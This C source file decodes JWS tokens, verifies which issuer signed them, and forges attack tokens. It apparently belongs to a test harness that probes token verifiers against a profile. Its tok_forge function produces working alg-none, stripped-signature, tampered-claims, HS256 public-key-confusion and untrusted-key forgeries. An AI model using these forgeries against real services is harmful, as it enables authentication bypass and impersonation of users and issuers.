/* tok.c -- decodes JWS tokens, checks which ECS signed them, and forges the attack tokens (RFC
 * 7515). */
#include "tok.h"

#include "base/b64url.h"
#include "base/err.h"

#include <glob.h>
#include <openssl/bn.h>
#include <openssl/ec.h>
#include <openssl/evp.h>
#include <openssl/hmac.h>
#include <openssl/pem.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define TOK_MAX 16384 /* longer than any token of the profile */

static json_t *
tok_seg_json(const char *s, size_t n, char *err)
{
    uint8_t *buf = malloc(b64url_decoded_max(n) + 1);
    size_t len;
    json_t *v = NULL;
    json_error_t jerr;

    if (b64url_decode(s, n, buf, &len) == -1) {
        edge_err(err, "not base64url");
        goto done;
    }
    v = json_loadb((char *)buf, len, JSON_REJECT_DUPLICATES, &jerr);
    if (!json_is_object(v)) {
        json_decref(v);
        v = NULL;
        edge_err(err, "not a JSON object: %s", jerr.text);
    }
done:
    free(buf);
    return v;
}

/* Offsets of the two dots; -1 unless exactly three segments. */
static int
tok_split(const char *jwt, size_t *d1, size_t *d2)
{
    const char *a, *b;

    if (jwt == NULL || strlen(jwt) > TOK_MAX || (a = strchr(jwt, '.')) == NULL ||
        (b = strchr(a + 1, '.')) == NULL || strchr(b + 1, '.') != NULL)
        return -1;
    *d1 = (size_t)(a - jwt);
    *d2 = (size_t)(b - jwt);
    return 0;
}

int
tok_decode(const char *jwt, json_t **header, json_t **claims, char *err)
{
    size_t d1, d2;
    char why[EDGE_ERR_LEN];

    *header = *claims = NULL;
    if (tok_split(jwt, &d1, &d2) == -1)
        return edge_err(err, "not a compact JWS (three dot-separated parts)");
    if ((*header = tok_seg_json(jwt, d1, why)) == NULL)
        return edge_err(err, "header: %s", why);
    if ((*claims = tok_seg_json(jwt + d1 + 1, d2 - d1 - 1, why)) == NULL) {
        json_decref(*header);
        *header = NULL;
        return edge_err(err, "claims: %s", why);
    }
    return 0;
}

static EVP_PKEY *
tok_read_pub(const char *path)
{
    FILE *f = fopen(path, "r");
    EVP_PKEY *k;

    if (f == NULL)
        return NULL;
    k = PEM_read_PUBKEY(f, NULL, NULL, NULL);
    fclose(f);
    return k;
}

/* Raw R||S (JWS) <-> DER (OpenSSL). */
static unsigned char *
tok_raw_to_der(const uint8_t *raw, size_t n, int *derlen)
{
    ECDSA_SIG *sig = ECDSA_SIG_new();
    unsigned char *der = NULL;

    *derlen = 0;
    if (n != 64 || sig == NULL) {
        ECDSA_SIG_free(sig);
        return NULL;
    }
    ECDSA_SIG_set0(sig, BN_bin2bn(raw, 32, NULL), BN_bin2bn(raw + 32, 32, NULL));
    *derlen = i2d_ECDSA_SIG(sig, &der);
    ECDSA_SIG_free(sig);
    return der;
}

static int
tok_der_to_raw(const unsigned char *der, size_t n, uint8_t raw[64])
{
    ECDSA_SIG *sig = d2i_ECDSA_SIG(NULL, &der, (long)n);
    const BIGNUM *r, *s;

    if (sig == NULL)
        return -1;
    ECDSA_SIG_get0(sig, &r, &s);
    BN_bn2binpad(r, raw, 32);
    BN_bn2binpad(s, raw + 32, 32);
    ECDSA_SIG_free(sig);
    return 0;
}

static int
tok_verify_one(const char *jwt, size_t d2, const uint8_t *sig, size_t siglen, EVP_PKEY *k)
{
    int derlen, ok = 0;
    unsigned char *der = tok_raw_to_der(sig, siglen, &derlen);
    EVP_MD_CTX *md = EVP_MD_CTX_new();

    if (der != NULL && md != NULL && EVP_DigestVerifyInit(md, NULL, EVP_sha256(), NULL, k) == 1 &&
        EVP_DigestVerify(md, der, (size_t)derlen, (const unsigned char *)jwt, d2) == 1)
        ok = 1;
    EVP_MD_CTX_free(md);
    OPENSSL_free(der);
    return ok;
}

int
tok_signed_by(const char *jwt, const char *pkidir, const char *issuer, char *err)
{
    size_t d1, d2, siglen;
    uint8_t sig[128];
    char pat[2048];
    glob_t g;
    int found = 0;

    if (tok_split(jwt, &d1, &d2) == -1)
        return edge_err(err, "not a compact JWS");
    if (strlen(jwt + d2 + 1) > 100 ||
        b64url_decode(jwt + d2 + 1, strlen(jwt + d2 + 1), sig, &siglen) == -1)
        return 0;
    snprintf(pat, sizeof(pat), "%s/%s.sig-*.pub", pkidir, issuer);
    if (glob(pat, 0, NULL, &g) != 0)
        return edge_err(err, "no public key of %s in %s", issuer, pkidir);
    for (size_t i = 0; i < g.gl_pathc && !found; i++) {
        EVP_PKEY *k = tok_read_pub(g.gl_pathv[i]);
        if (k != NULL)
            found = tok_verify_one(jwt, d2, sig, siglen, k);
        EVP_PKEY_free(k);
    }
    globfree(&g);
    return found;
}

static char *
tok_b64_json(json_t *v)
{
    char *text = json_dumps(v, JSON_COMPACT | JSON_PRESERVE_ORDER);
    char *out = b64url_encode_alloc((uint8_t *)text, strlen(text));
    free(text);
    return out;
}

/* Any public key file of the token's issuer (iss claim). */
static char *
tok_issuer_pem(const char *pkidir, json_t *header, json_t *claims, size_t *len, char *err)
{
    const char *iss = json_string_value(json_object_get(claims, "iss"));
    const char *kid = json_string_value(json_object_get(header, "kid"));
    char path[2048];
    FILE *f;
    char *buf;

    if (iss == NULL || kid == NULL || strchr(iss, '/') || strchr(kid, '/')) {
        edge_err(err, "hs256-pubkey needs a token with iss and kid");
        return NULL;
    }
    snprintf(path, sizeof(path), "%s/%s.sig-%s.pub", pkidir, iss, kid);
    if ((f = fopen(path, "rb")) == NULL) {
        edge_err(err, "cannot read the issuer's public key %s", path);
        return NULL;
    }
    buf = calloc(1, 8192);
    *len = fread(buf, 1, 8191, f);
    fclose(f);
    return buf;
}

char *
tok_forge(const char *jwt, const char *kind, json_t *set, json_t *unset, const char *pkidir,
          char *err)
{
    json_t *header = NULL, *claims = NULL, *v;
    char *h64 = NULL, *c64 = NULL, *out = NULL, *signing = NULL, *pem = NULL;
    uint8_t sig[64];
    size_t d1, d2, i, n, pemlen = 0;
    const char *k;
    EVP_PKEY *key = NULL;
    EVP_MD_CTX *md = NULL;

    if (tok_decode(jwt, &header, &claims, err) == -1)
        return NULL;
    if (tok_split(jwt, &d1, &d2) == -1) {
        json_decref(header);
        json_decref(claims);
        edge_err(err, "forge: not a compact JWS");
        return NULL;
    }
    json_object_foreach(set, k, v) json_object_set(claims, k, v);
    json_array_foreach(unset, i, v) json_object_del(claims, json_string_value(v));

    if (strcmp(kind, "alg-none") == 0)
        json_object_set_new(header, "alg", json_string("none"));
    else if (strcmp(kind, "hs256-pubkey") == 0)
        json_object_set_new(header, "alg", json_string("HS256"));
    h64 = tok_b64_json(header);
    c64 = tok_b64_json(claims);
    n = strlen(h64) + strlen(c64) + 2;
    signing = malloc(n);
    snprintf(signing, n, "%s.%s", h64, c64);
    out = malloc(n + 100);

    if (strcmp(kind, "payload") == 0) {
        /* The issuer's header and signature kept: only the claims changed. */
        snprintf(out, n + 100, "%.*s.%s.%s", (int)d1, jwt, c64, jwt + d2 + 1);
    } else if (strcmp(kind, "alg-none") == 0 || strcmp(kind, "strip-signature") == 0) {
        if (strcmp(kind, "strip-signature") == 0)
            snprintf(out, n + 100, "%.*s.%s.", (int)d1, jwt, c64);
        else
            snprintf(out, n + 100, "%s.", signing);
    } else if (strcmp(kind, "hs256-pubkey") == 0) {
        unsigned int maclen = 0;
        if ((pem = tok_issuer_pem(pkidir, header, claims, &pemlen, err)) == NULL)
            goto fail;
        HMAC(EVP_sha256(), pem, (int)pemlen, (unsigned char *)signing, strlen(signing), sig,
             &maclen);
        char *s64 = b64url_encode_alloc(sig, 32);
        snprintf(out, n + 100, "%s.%s", signing, s64);
        free(s64);
    } else if (strcmp(kind, "untrusted-key") == 0) {
        unsigned char der[128];
        size_t derlen = sizeof(der);
        if ((key = EVP_EC_gen("P-256")) == NULL || (md = EVP_MD_CTX_new()) == NULL ||
            EVP_DigestSignInit(md, NULL, EVP_sha256(), NULL, key) != 1 ||
            EVP_DigestSign(md, der, &derlen, (unsigned char *)signing, strlen(signing)) != 1 ||
            tok_der_to_raw(der, derlen, sig) == -1) {
            edge_err(err, "OpenSSL could not sign with a fresh P-256 key");
            goto fail;
        }
        char *s64 = b64url_encode_alloc(sig, 64);
        snprintf(out, n + 100, "%s.%s", signing, s64);
        free(s64);
    } else {
        edge_err(err, "unknown forgery \"%s\"", kind);
        goto fail;
    }
    goto done;
fail:
    free(out);
    out = NULL;
done:
    if (pem != NULL)
        OPENSSL_cleanse(pem, pemlen);
    free(pem);
    EVP_MD_CTX_free(md);
    EVP_PKEY_free(key);
    free(signing);
    free(h64);
    free(c64);
    json_decref(header);
    json_decref(claims);
    return out;
}
